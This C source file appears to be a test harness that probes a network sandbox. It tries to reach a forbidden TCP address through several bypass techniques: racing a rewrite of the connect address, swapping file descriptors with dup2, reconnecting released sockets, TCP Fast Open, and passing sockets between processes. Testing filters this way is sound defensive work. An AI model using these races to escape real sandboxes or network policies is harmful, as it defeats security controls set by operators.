/*
 * Tries to get a TCP connection to an address that the rules of the network forbid, by way of one
 * that they allow. Whatever connection comes about to the forbidden address, a request with the
 * cell's name is sent on it: the server's log is the oracle.
 *
 *   netrace MODE ALLOWED FORBIDDEN CELL
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/tcp.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

/* The race is tried at least so often, until it has succeeded. */
#define ROUNDS 1500
#define PLACE 100

static struct sockaddr_in allowed, forbidden, moving;
static const char *cell;
static volatile int done;
static int one_kind, other_kind, reached, connected;

static struct sockaddr_in address(const char *text) {
  struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(80)};
  inet_pton(AF_INET, text, &in.sin_addr);
  return in;
}

/* The threads race for a second of the processor's: on a busy machine the clock may run out before both had a turn. */
static int goes_on(int round) {
  return !reached && (round < ROUNDS || clock() < CLOCKS_PER_SEC);
}

/* Asks on any connection where it leads. */
static void ask(int fd) {
  struct sockaddr_in peer = {0};
  socklen_t size = sizeof peer;
  if (getpeername(fd, (struct sockaddr *)&peer, &size) < 0 || peer.sin_family != AF_INET)
    return;
  connected++;
  if (peer.sin_addr.s_addr != forbidden.sin_addr.s_addr)
    return;
  reached++;
  char request[256];
  int n = snprintf(request, sizeof request, "GET /page?%s HTTP/1.0\r\n\r\n", cell);
  if (write(fd, request, (size_t)n) < 0 || read(fd, request, sizeof request) < 0)
    perror("request");
}

static void *rewrite(void *unused) {
  while (!done) {
    moving.sin_addr = forbidden.sin_addr;
    __asm__ volatile("" ::: "memory");
    moving.sin_addr = allowed.sin_addr;
    __asm__ volatile("" ::: "memory");
  }
  return unused;
}

static void *swap(void *unused) {
  while (!done) {
    dup2(one_kind, PLACE);
    dup2(other_kind, PLACE);
  }
  return unused;
}

static void by_rewriting(void) {
  pthread_t thread;
  moving = allowed;
  pthread_create(&thread, NULL, rewrite, NULL);
  for (int i = 0; goes_on(i); i++) {
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(fd, (struct sockaddr *)&moving, sizeof moving) == 0)
      ask(fd);
    close(fd);
  }
  done = 1;
  pthread_join(thread, NULL);
}

/* A socket that was connected where it may be, and let go again. */
static int let_go(void) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr none = {.sa_family = AF_UNSPEC};
  if (connect(fd, (struct sockaddr *)&allowed, sizeof allowed) == 0)
    connected++;
  connect(fd, &none, sizeof none);
  return fd;
}

static void by_swapping(int kind, int listening) {
  pthread_t thread;
  one_kind = socket(kind, kind == AF_UNIX ? SOCK_STREAM : SOCK_DGRAM, 0);
  /* Newer kernels refuse listen(2) on a socket that was let go: the control takes a fresh one. */
  other_kind = listening == 2 ? socket(AF_INET, SOCK_STREAM, 0) : let_go();
  dup2(one_kind, PLACE);
  pthread_create(&thread, NULL, swap, NULL);
  for (int i = 0; goes_on(i); i++) {
    if (listening) {
      struct sockaddr_in own = {0};
      socklen_t size = sizeof own;
      if (listen(PLACE, 9) == 0 && listen(other_kind, 9) == 0 &&
          getsockname(other_kind, (struct sockaddr *)&own, &size) == 0 && own.sin_port != 0)
        printf("listens %d\n", ntohs(own.sin_port)), reached++;
    } else if (connect(PLACE, (struct sockaddr *)&forbidden, sizeof forbidden) == 0) {
      ask(other_kind);
    }
  }
  done = 1;
  pthread_join(thread, NULL);
}

static void by_again(void) {
  int fd = let_go();
  if (connect(fd, (struct sockaddr *)&forbidden, sizeof forbidden) == 0)
    ask(fd);
  if (listen(fd, 9) == 0)
    reached++;
}

static void by_fast_open(void) {
  int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;
  char request[256];
  int n = snprintf(request, sizeof request, "GET /page?%s HTTP/1.0\r\n\r\n", cell);
  struct sockaddr *to = (struct sockaddr *)&forbidden;
  struct iovec part = {request, (size_t)n};
  struct msghdr message = {
      .msg_name = to, .msg_namelen = sizeof forbidden, .msg_iov = &part, .msg_iovlen = 1};
  struct mmsghdr several = {.msg_hdr = message};
  int sockets[] = {fd, let_go(), let_go(), let_go()};
  for (int i = 0; i < 4; i++) {
    sendto(sockets[i], request, (size_t)n, MSG_FASTOPEN, to, sizeof forbidden);
    sendmsg(sockets[i], &message, MSG_FASTOPEN);
    sendmmsg(sockets[i], &several, 1, MSG_FASTOPEN);
    setsockopt(sockets[i], IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof one);
    connect(sockets[i], to, sizeof forbidden);
    if (write(sockets[i], request, (size_t)n) > 0)
      ask(sockets[i]);
  }
  sleep(1);
}

/* A socket that another process has sent, while that one connects it. */
static void by_passing(void) {
  int pair[2];
  socketpair(AF_UNIX, SOCK_STREAM, 0, pair);
  union {
    char room[CMSG_SPACE(sizeof(int))];
    struct cmsghdr align;
  } control;
  char byte = 0;
  struct iovec part = {&byte, 1};
  struct msghdr message = {
      .msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
  if (fork() == 0) {
    int fd = let_go();
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof fd);
    memcpy(CMSG_DATA(header), &fd, sizeof fd);
    sendmsg(pair[1], &message, 0);
    _exit(0);
  }
  int fd = -1;
  if (recvmsg(pair[0], &message, 0) == 1)
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
  wait(NULL);
  if (connect(fd, (struct sockaddr *)&forbidden, sizeof forbidden) == 0)
    ask(fd);
  if (listen(fd, 9) == 0)
    reached++;
  connected++;
}

int main(int argc, char **argv) {
  if (argc != 5)
    return 2;
  signal(SIGPIPE, SIG_IGN);
  allowed = address(argv[2]);
  forbidden = address(argv[3]);
  cell = argv[4];
  if (!strcmp(argv[1], "rewrite"))
    by_rewriting();
  else if (!strcmp(argv[1], "swap-unix"))
    by_swapping(AF_UNIX, 0);
  else if (!strcmp(argv[1], "swap-udp"))
    by_swapping(AF_INET, 0);
  else if (!strcmp(argv[1], "swap-listen"))
    by_swapping(AF_UNIX, 1);
  else if (!strcmp(argv[1], "swap-listen-fresh"))
    by_swapping(AF_UNIX, 2);
  else if (!strcmp(argv[1], "again"))
    by_again();
  else if (!strcmp(argv[1], "fast-open"))
    by_fast_open();
  else if (!strcmp(argv[1], "pass"))
    by_passing();
  else
    return 2;
  printf("connected %d reached %d\n", connected, reached);
  return 0;
}
